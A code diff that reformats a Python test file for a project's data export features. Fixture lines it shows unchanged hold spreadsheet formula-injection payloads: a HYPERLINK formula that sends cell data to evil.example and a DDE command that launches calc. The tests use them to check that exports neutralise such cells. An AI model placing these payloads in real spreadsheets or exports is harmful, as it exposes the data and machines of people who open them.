@@ -28,12 +28,12 @@ import frictionless
 import pytest
 
 from shafaf.config import registry as registry_module
-from shafaf.standard import tables
 from shafaf.core.datadir import DataDir
-from shafaf.publish.exports import ExportError, Manifest, package_schema, read_manifest, write_exports
 from shafaf.harvest.runner import harvest
-from shafaf.publish.writer import publish
+from shafaf.publish.exports import ExportError, Manifest, package_schema, read_manifest, write_exports
 from shafaf.publish.spreadsheet import safe_cell
+from shafaf.publish.writer import publish
+from shafaf.standard import tables
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
@@ -68,11 +68,15 @@ def _published(root: Path) -> tuple[registry_module.Registry, DataDir]:
         conn.executemany(
             "INSERT INTO services (agency_id, service_id, name_fa, name_en, description, category, smart, fee, run_id, withdrawn)"
             " VALUES ('alpha', ?, ?, ?, ?, ?, ?, ?, ?, 0)",
-            [("S90", DDE, HYPERLINK, AT_SUM, "\tTAB", 1, 0, run_id),
-             ("S91", "\rCR", "-not a number", FAITHFUL, "+98 21 5555 0000", 0, 7, run_id)],
+            [
+                ("S90", DDE, HYPERLINK, AT_SUM, "\tTAB", 1, 0, run_id),
+                ("S91", "\rCR", "-not a number", FAITHFUL, "+98 21 5555 0000", 0, 7, run_id),
+            ],
         )
-        conn.execute("INSERT INTO indicators (agency_id, indicator, window, value, numerator, unit)"
-                     " VALUES ('alpha', 'net_change', 'year', -5, -0.25, '-5')")
+        conn.execute(
+            "INSERT INTO indicators (agency_id, indicator, window, value, numerator, unit)"
+            " VALUES ('alpha', 'net_change', 'year', -5, -0.25, '-5')"
+        )
     return reg, data
 
 
@@ -159,8 +163,9 @@ def test_raw_csv_is_byte_faithful(site):
     names = list(tables.columns("services"))
     with sqlite3.connect(published) as conn:
         # Agency by agency (the files are joined from per-agency parts), each agency's rows as published.
-        stored = conn.execute(f"SELECT {', '.join(names)} FROM services "
-                              "ORDER BY agency_id IS NULL, agency_id, rowid").fetchall()
+        stored = conn.execute(
+            f"SELECT {', '.join(names)} FROM services ORDER BY agency_id IS NULL, agency_id, rowid"
+        ).fetchall()
     expected = io.StringIO()
     csv.writer(expected, lineterminator="\r\n").writerows([names, *stored])
     assert raw == expected.getvalue().encode("utf-8")
@@ -226,11 +231,13 @@ def test_agency_package_holds_exactly_its_published_rows(site, tmp_path):
     published, data = site.db, site.data
     descriptor = json.loads(_unzip(data, "alpha", tmp_path / "alpha").read_text(encoding="utf-8"))
     assert descriptor["name"] == "alpha"
-    assert descriptor["licenses"] == [{"name": "CC-BY-4.0", "title": "CC BY 4.0",
-                                       "path": "https://creativecommons.org/licenses/by/4.0/"}]
+    assert descriptor["licenses"] == [
+        {"name": "CC-BY-4.0", "title": "CC BY 4.0", "path": "https://creativecommons.org/licenses/by/4.0/"}
+    ]
     assert [s["title"] for s in descriptor["sources"]] == [
         "services (file source services): file alpha_services.csv",
-        "service_performance (file source service_performance): file alpha_performance.csv"]
+        "service_performance (file source service_performance): file alpha_performance.csv",
+    ]
     resources = {r["name"]: r for r in descriptor["resources"]}
     with sqlite3.connect(published) as conn:
         for kind in tables.DATASET_TABLES:
@@ -307,8 +314,10 @@ KILLED_EXPORT = textwrap.dedent("""\
 def _many_duplicates(db: Path, rows: int) -> int:
     """Add ``rows`` rows to possible_duplicates; the table's row count after (publishing may have added some)."""
     with sqlite3.connect(db) as conn:
-        conn.executemany("INSERT INTO possible_duplicates VALUES ('alpha', ?, 'نام خدمت', 'beta', ?, 'name', 0.9, 'trigram')",
-                         ((f"S{i}", f"B{i}") for i in range(rows)))
+        conn.executemany(
+            "INSERT INTO possible_duplicates VALUES ('alpha', ?, 'نام خدمت', 'beta', ?, 'name', 0.9, 'trigram')",
+            ((f"S{i}", f"B{i}") for i in range(rows)),
+        )
         return conn.execute("SELECT count(*) FROM possible_duplicates").fetchone()[0]
 
 
@@ -318,7 +327,9 @@ def test_a_killed_export_leaves_the_previous_downloads(fresh):
     _export(data, reg)
     before = {p: p.read_bytes() for p in data.downloads.rglob("*") if p.is_file()}
     total = _many_duplicates(published, 150_000)
-    process = subprocess.Popen([sys.executable, "-c", KILLED_EXPORT, str(data.public_db), str(data.downloads), str(reg.path)])
+    process = subprocess.Popen(
+        [sys.executable, "-c", KILLED_EXPORT, str(data.public_db), str(data.downloads), str(reg.path)]
+    )
     try:
         deadline = time.monotonic() + 60
         while not list((data.root / "exports").glob("*.building/tables/possible_duplicates.csv")):
@@ -342,9 +353,11 @@ def test_memory_stays_flat_on_a_large_table(fresh):
     rows = 30_000
     total = _many_duplicates(published, rows)
     with sqlite3.connect(published) as conn:  # and a large dataset table, which also goes into alpha's package
-        conn.executemany("INSERT INTO targets (agency_id, indicator, period_start, period_end, target, actual, unit)"
-                         " VALUES ('alpha', ?, '2025-03-21', '2026-03-20', 100, 90.5, 'percent')",
-                         ((f"i{i}",) for i in range(rows // 4)))
+        conn.executemany(
+            "INSERT INTO targets (agency_id, indicator, period_start, period_end, target, actual, unit)"
+            " VALUES ('alpha', ?, '2025-03-21', '2026-03-20', 100, 90.5, 'percent')",
+            ((f"i{i}",) for i in range(rows // 4)),
+        )
     tracemalloc.start()
     try:
         manifest = _export(data, reg)
